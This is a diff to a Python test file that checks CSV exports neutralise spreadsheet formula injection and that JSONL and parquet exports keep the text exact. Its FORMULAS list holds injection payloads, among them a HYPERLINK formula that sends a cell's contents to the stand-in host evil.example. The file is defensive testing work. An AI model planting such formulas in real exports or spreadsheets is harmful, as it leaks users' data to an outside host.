@@ -25,6 +25,7 @@ import pytest
 from clo.__main__ import main
 from clo.app.space import MARKER, build_space
 from clo.evaluate.store import open_store
+from conftest import fake_engine
 
 ROOT = Path(__file__).resolve().parent.parent
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"]
@@ -126,7 +127,7 @@ def test_formula_cells_are_neutralised_in_both_csv_exports_and_kept_exact_elsewh
     exact = pd.read_json(tmp_path / "v.jsonl", lines=True)
     assert sorted(exact.prompt) == sorted(FORMULAS)  # JSONL keeps the text as typed
 
-    board = Board(SimpleNamespace(store=open_store(str(db), read_only=True)))  # the Leaderboard's download
+    board = Board(SimpleNamespace(store=open_store(str(db), read_only=True), engine=fake_engine()))  # its download
     _, files = board.get(None)
     assert_neutralised(Path(files["csv"]))
     assert sorted(pd.read_parquet(files["parquet"]).prompt) == sorted(FORMULAS)
